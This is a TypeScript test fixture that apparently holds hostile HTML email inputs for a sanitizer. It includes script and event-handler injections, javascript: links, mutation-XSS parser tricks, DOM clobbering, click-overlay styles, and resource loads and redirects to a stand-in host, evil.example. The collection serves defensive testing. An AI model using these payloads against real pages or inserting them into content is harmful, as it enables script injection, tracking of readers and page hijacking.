/** HTML that tries to run something, to ask a network for something, or to take over the page that shows it. */
export const HOSTILE_MAILS: Readonly<Record<string, string>> = {
  'a script': '<script>hit()</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script in pieces': '<scr<script>ipt>hit()</scr</script>ipt>',
  'a script with a slash': '<script/x>hit()</script>',
  'a script that never ends': '<script>hit()',
  'a handler': '<img src=x onerror=hit()>',
  'a handler behind a slash': '<img/src/onerror=hit()>',
  'a handler in an odd quotation': '<img src=`x`onerror=hit()>',
  'a handler with NUL': '<img src=x on\u0000error=hit()>',
  'a handler behind a form feed': '<img\fsrc=x\fonerror=hit()>',
  'handlers of many kinds':
    '<body onload=hit()><div onmouseover=hit() onfocus=hit() tabindex=0 autofocus onpointerenter=hit()>x</div><input onfocus=hit() autofocus><details open ontoggle=hit()><marquee onstart=hit()><video onerror=hit()><source onerror=hit()></video><audio src onerror=hit()>',
  'an animation that ends': '<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationend=hit()>x</p>',
  'a link that runs': '<a href="javascript:hit()">click</a>',
  'a link with entities': '<a href="&#x6A;&#97;vascript&colon;hit()">click</a>',
  'a link with control characters': '<a href="\u0001java\tscr\nipt:hit()">click</a>',
  'a link with entities for control characters': '<a href="&#1;java&Tab;script&NewLine;:hit()">click</a>',
  'a link in capitals': '<a href="JaVaScRiPt:hit()">click</a>',
  'a link to data': '<a href="data:text/html,<script>hit()</script>">click</a>',
  'a link of vector graphics': '<svg><a xlink:href="javascript:hit()"><text>click</text></a></svg>',
  'a link of mathematics':
    '<math href="javascript:hit()">click</math><maction actiontype="statusline" xlink:href="javascript:hit()">click</maction>',
  'a form': '<form action="javascript:hit()"><button>click</button><input type=submit value=click></form>',
  'a button elsewhere': '<form id=f></form><button form=f formaction="javascript:hit()">click</button>',
  'a form in a form': '<form><div></form><form id=x><img src=x onerror=hit()>',
  'vector graphics':
    '<svg onload=hit()></svg><svg><script>hit()</script></svg><svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  'vector graphics that use others':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hit() /></svg>#x"/></svg>',
  'foreign content': '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  'mathematics with style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  'mathematics with form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  'style in vector graphics': '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  'style in mathematics': '<math></p><style><!--</style><img src=x onerror=hit()>--></style></math>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  'noscript in a header': '<head><noscript><style></noscript><img src=x onerror=hit()></style></noscript></head>',
  title: '<title><img title="</title><img src=x onerror=hit()>"></title>',
  'title in vector graphics': '<svg><title><style><img title="</style></title><img src=x onerror=hit()>">',
  textarea: '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  xmp: '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  'xmp that never ends': '<xmp><img src=x onerror=hit()>',
  plaintext: '<plaintext><img src=x onerror=hit()>',
  noembed: '<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>',
  noframes: '<noframes><p title="</noframes><img src=x onerror=hit()>"></noframes>',
  'a frame': '<iframe src="javascript:hit()"></iframe><iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'text in a frame': '<iframe><p title="</iframe><img src=x onerror=hit()>"></iframe>',
  'a select':
    '<select><template><img src=x onerror=hit()></template></select><select><style></select><img src=x onerror=hit()></style></select>',
  'a template':
    '<template><img src=x onerror=hit()></template><template shadowrootmode=open><img src=x onerror=hit()></template>',
  'a comment with an odd end': '<!--><img src=x onerror=hit()>--> <!--!><img src=x onerror=hit()>--!>',
  'a comment for one program':
    '<!--[if gte mso 9]><img src=x onerror=hit()><![endif]--><![if !mso]><img src=x onerror=hit()><![endif]>',
  'a section of characters': '<svg><![CDATA[><img src=x onerror=hit()>]]></svg><![CDATA[<img src=x onerror=hit()>]]>',
  'an instruction':
    '<?xml version="1.0"?><?php <img src=x onerror=hit()>?><!DOCTYPE x [<!ENTITY a "<img src=x onerror=hit()>">]>&a;',
  'entities that become tags':
    '&lt;img src=x onerror=hit()&gt; <p title="&quot;&gt;&lt;img src=x onerror=hit()&gt;">x</p>',
  'a table that throws out its content':
    '<table><tr><img src=x onerror=hit()><td></table><table><style><!--</style><img src=x onerror=hit()>',
  'a name with an odd character': '<a"b onclick=hit()>click</a"b><img """><script>hit()</script>">',
  'an element of a workshop': '<x-y onclick=hit()>click</x-y><p is="x-y">x</p><slot onslotchange=hit()></slot>',
  'a refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:hit()">',
  'a base': '<base href="https://evil.example/"><a href="/x">click</a><img src="a.png">',
  'a sheet of style':
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  'links that are loaded ahead':
    '<link rel=prefetch href="https://evil.example/x"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="https://evil.example">',
  'a style that loads':
    '<p style="background:url(https://evil.example/x);list-style-image:url(https://evil.example/y);content:url(https://evil.example/z)">x</p>',
  'a style that loads in disguise':
    '<p style="background:u\\72l(https://evil.example/x);background:/**/url(https://evil.example/y);background-image:image-set(\'https://evil.example/z\' 1x);cursor:url(https://evil.example/c),auto;--x:url(https://evil.example/v)">x</p>',
  'a style that breaks out':
    '<p style="color:red;}</style><img src=x onerror=hit()>">x</p><p style=\'font-family:"</style><img src=x onerror=hit()>"\'>x</p>',
  'a style that covers the page':
    '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9999;opacity:0">click</a><div style="margin-top:-9999px;transform:scale(100)">x</div>',
  'pictures on a server':
    '<img src="https://evil.example/a.gif"><img srcset="https://evil.example/b.gif 1x"><picture><source srcset="https://evil.example/c.gif"><img></picture><input type=image src="https://evil.example/d.gif"><table background="https://evil.example/e.gif"><tr><td background="https://evil.example/f.gif">x</table><body background="https://evil.example/g.gif"><video poster="https://evil.example/h.gif"></video><svg><image href="https://evil.example/i.gif"/></svg><img dynsrc="https://evil.example/j.gif" lowsrc="https://evil.example/k.gif">',
  'a picture without a scheme':
    '<img src="//evil.example/a.gif"><img src="\\\\evil.example\\a.gif"><img src="/api/v1/sign-out"><img src="a.gif">',
  'a picture that is a document':
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'hit()\'/>"><object data="data:text/html,<script>parent.hit()</script>"></object><embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  'a call back at a click': '<a href="https://shop.example/" ping="https://evil.example/ping">x</a>',
  'names of the page':
    '<form name=body><input name=children></form><img name=cookie><img id=hit><a id=appRoot href="javascript:hit()"></a><a id=config name=url></a><iframe name=parent></iframe>',
  'attributes of a prototype': '<p __proto__="x" constructor="y" hasOwnProperty=1 onclick=hit()>x</p>',
  'a thousand open elements': `${'<b>'.repeat(1000)}<img src=x onerror=hit()>`,
  'an open tag at the end': '<img src=x onerror=hit() ',
  'an open quotation at the end': '<img src="x onerror=hit()',
}
